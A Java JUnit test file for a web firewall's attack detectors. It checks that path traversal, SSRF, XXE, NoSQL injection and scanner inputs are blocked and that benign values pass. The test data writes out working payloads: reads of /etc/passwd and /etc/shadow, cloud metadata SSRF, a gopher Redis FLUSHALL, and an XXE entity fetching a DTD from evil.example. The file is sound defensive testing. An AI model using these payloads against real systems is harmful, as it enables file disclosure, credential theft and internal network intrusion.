package ai.traceable.tme.engine.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.decode.Decoding;
import ai.traceable.tme.engine.inspect.Inspected;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Single values through every shipped detector at paranoia 1: what must block (score of distinct
 * rules reaches 5, and the rule the case is written for is among them, so one detector cannot cover
 * for another) and what must pass.
 */
class DetectorsTest {
  private static final Map<String, DetectionRule> RULES = rulesById();

  private static Map<String, DetectionRule> rulesById() {
    Map<String, DetectionRule> rules = new HashMap<>();
    Detectors.all().forEach(d -> d.rules().forEach(r -> rules.put(r.id(), r)));
    return rules;
  }

  /** The paranoia-1 rules every shipped detector reported for one value, by id. */
  static Set<String> rulesHit(Placement placement, String name, String raw) {
    Inspected value = new Inspected(placement, name, raw, Decoding.decode(raw, false));
    Set<String> seen = new LinkedHashSet<>();
    for (Detector d : Detectors.all()) {
      d.inspect(
          value,
          (rule, snippet) -> {
            if (rule.paranoia() == 1) {
              seen.add(rule.id());
            }
          });
    }
    return seen;
  }

  /** The anomaly score of distinct paranoia-1 rules that matched one value. */
  static int score(Placement placement, String name, String raw) {
    int score = 0;
    for (String id : rulesHit(placement, name, raw)) {
      score += RULES.get(id).severity().score();
    }
    return score;
  }

  @ParameterizedTest(name = "{1} {2}={3} hits {0}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          traversal-100| QUERY     | file     | ../../../../etc/passwd
          traversal-100| QUERY     | file     | ..%2f..%2f..%2fetc%2fshadow
          traversal-100| QUERY     | file     | ....//....//etc/passwd
          traversal-100| QUERY     | file     | ..\\..\\windows\\win.ini
          traversal-130| QUERY     | page     | php://filter/convert.base64-encode/resource=index.php
          traversal-120| QUERY     | doc      | /proc/self/environ
          traversal-140| PATH      |          | /static/../../etc/passwd
          ssrf-100     | QUERY     | url      | http://169.254.169.254/latest/meta-data/
          ssrf-120     | QUERY     | url      | http://2130706433/admin
          ssrf-120     | QUERY     | url      | http://0177.0.0.1/
          ssrf-120     | QUERY     | url      | http://0x7f000001:8080/
          ssrf-120     | QUERY     | url      | http://[::ffff:127.0.0.1]/
          ssrf-120     | QUERY     | url      | http://127.1/server-status
          ssrf-130     | QUERY     | url      | gopher://127.0.0.1:6379/_FLUSHALL
          ssrf-100     | QUERY     | url      | http://metadata.google.internal/computeMetadata/v1/
          ssrf-100     | QUERY     | host     | 169.254.169.254
          ssrf-140     | JSON      | webhook  | http://10.0.0.5:9200/_cat/indices
          xxe-100      | XML       | document | <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
          xxe-110      | XML       | document | <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>
          nosqli-100   | JSON_KEY  | password | $ne
          nosqli-110   | QUERY_NAME|          | password[$regex]
          nosqli-120   | QUERY     | q        | {"$gt": ""}
          scanner-100  | HEADER    | user-agent | sqlmap/1.7.2#stable (https://sqlmap.org)
          scanner-110  | HEADER    | x-scanner  | yes
          scanner-130  | PATH      |          | /.git/config
          """)
  void attacksBlockThroughTheRuleMeantForThem(
      String rule, Placement placement, String name, String raw) {
    String field = name == null ? "" : name;
    assertThat(rulesHit(placement, field, raw)).contains(rule);
    assertThat(score(placement, field, raw)).isGreaterThanOrEqualTo(5);
  }

  @ParameterizedTest(name = "{0} {1}={2}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          QUERY     | file     | docs/2024/report.pdf
          QUERY     | page     | 2
          QUERY     | v        | 1.2.3.4
          QUERY     | redirect | https://app.example.com/callback?x=1
          QUERY     | next     | /dashboard/../settings
          JSON      | address  | 1600 Amphitheatre Pkwy, Mountain View
          JSON      | note     | Read ../README.md for details
          JSON      | text     | The file /etc/passwd lists the local users on Unix.
          PATH      |          | /downloads/v1.2.3/app-v1.2.3.tar.gz
          PATH      |          | /api/.well-known/openid-configuration
          PATH      |          | /.environment-setup
          HEADER    | referer  | http://localhost:3000/app
          HEADER    | user-agent | Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0
          XML       | document | <?xml version="1.0"?><order><id>42</id></order>
          JSON_KEY  | price    | price.$
          QUERY     | amount   | $10
          QUERY     | url      | https://www.example.com/a//b
          """)
  void benignValuesPass(Placement placement, String name, String raw) {
    assertThat(score(placement, name == null ? "" : name, raw)).isLessThan(5);
  }

  @Test
  void ruleIdsAreUniqueAndNamedAfterTheirClass() {
    Set<String> ids = new HashSet<>();
    for (Detector d : Detectors.all()) {
      for (DetectionRule r : d.rules()) {
        assertThat(ids.add(r.id())).as("duplicate %s", r.id()).isTrue();
        assertThat(r.id()).matches(r.attackClass().key() + "-\\d{3}");
        assertThat(r.attackClass()).isEqualTo(d.attackClass());
      }
    }
  }

  @Test
  void randomAndHostileValuesNeverThrow() {
    Random random = new Random(7);
    String alphabet = "./\\:%$[]{}<>!&;\"' -_0123456789abcdefxu@#=?\n\u2215\uff0e";
    List<String> seeds =
        List.of(
            "../../etc/passwd",
            "http://[::1]/",
            "<!DOCTYPE x [<!ENTITY",
            "a[$ne]=1",
            "http://0x7f.1/");
    List<String> inputs = new ArrayList<>();
    for (int i = 0; i < 5_000; i++) {
      StringBuilder s = new StringBuilder(seeds.get(random.nextInt(seeds.size())));
      int n = random.nextInt(30);
      for (int j = 0; j < n; j++) {
        s.insert(
            random.nextInt(s.length() + 1), alphabet.charAt(random.nextInt(alphabet.length())));
      }
      inputs.add(s.toString());
    }
    inputs.add("../".repeat(100_000));
    inputs.add("http://".repeat(50_000));
    inputs.add("<!ENTITY a \"&b;&b;\">".repeat(10_000));
    for (String input : inputs) {
      for (Placement p :
          new Placement[] {
            Placement.QUERY, Placement.PATH, Placement.HEADER, Placement.JSON_KEY, Placement.XML
          }) {
        assertThatCode(() -> score(p, "url", input)).doesNotThrowAnyException();
      }
    }
  }
}
